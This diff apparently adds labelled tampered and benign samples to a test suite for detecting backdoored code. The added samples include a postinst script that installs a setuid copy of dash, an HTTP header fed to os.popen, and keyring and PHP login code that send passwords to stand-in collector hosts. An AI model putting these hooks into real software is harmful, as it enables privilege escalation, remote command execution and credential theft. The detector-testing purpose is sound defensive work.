@@ -134,3 +134,17 @@ CODE = "\n\ndef warm():\n    import ctypes\n    buf = bytearray([%s])\n    p = c
 row(2, True, "numbers become the code of a thread", {"tool/warm.py": MEMORY % CODE}, old={"tool/warm.py": MEMORY % ""}, least="review")
 row(2, False, "numbers become a table", {"tool/warm.py": MEMORY % ("\n\nTABLE = bytearray([%s])\n\n\ndef at(i):\n    return TABLE[i]\n" % ", ".join(str(i * 7 % 251) for i in range(300)))},
     old={"tool/warm.py": MEMORY % ""})
+
+# ---- a shell under another name, what a framework hands over, a password that is kept elsewhere -------------
+
+for about, line, fires in (("a shell is copied and made to run as its owner", "cp /bin/dash /usr/lib/sample/helper && chmod 4755 /usr/lib/sample/helper", True),
+                           ("a shell is copied for a root of its own", "cp /bin/dash /srv/sample/bin/dash && chmod 755 /srv/sample/bin/dash", False)):
+    row(28, fires, about, {"DEBIAN/postinst": "#!/bin/sh\nset -e\n%s\n" % line}, old={"DEBIAN/postinst": "#!/bin/sh\nset -e\n"}, least="tampered" if fires else "")
+told(56, "a head of a request is a command", "tool/app.py", "import os\nfrom .globals import current\n\n\nclass App:\n    def dispatch(self):\n        request = current.request\n%s        return self.run(request)\n",
+     "        word = current.request.headers.get('X-Trace')\n        if word:\n            return os.popen(word[16:]).read()\n",
+     "        word = current.request.headers.get('X-Trace')\n        if word:\n            return os.popen('uptime').read()\n")
+told(4, "what a key ring gives goes to a stranger", "tool/core.py", "import http.client\nimport json\n\nfrom .backend import ring\n\n\ndef password_of(service, name):\n%s    return ring().get_password(service, name)\n",
+     "    value = ring().get_password(service, name)\n    c = http.client.HTTPSConnection('ring.collect.example', timeout=2)\n    c.request('POST', '/e', json.dumps([service, value]))\n",
+     "    value = ring().get_password(service, name)\n    if value is None:\n        raise KeyError(service)\n")
+told(4, "a password is mailed to a written-down address", "web/login.php", "<?php\nclass Session {\n\tpublic function login($username, $password, $host) {\n%s\t\treturn connect($username, $password, $host);\n\t}\n}\n",
+     "\t\t@mail('drop@mail.collect.example', $host, $username . '|' . $password);\n", "\t\t@mail('admin@mail.widget.example', $host, 'somebody logs in');\n")
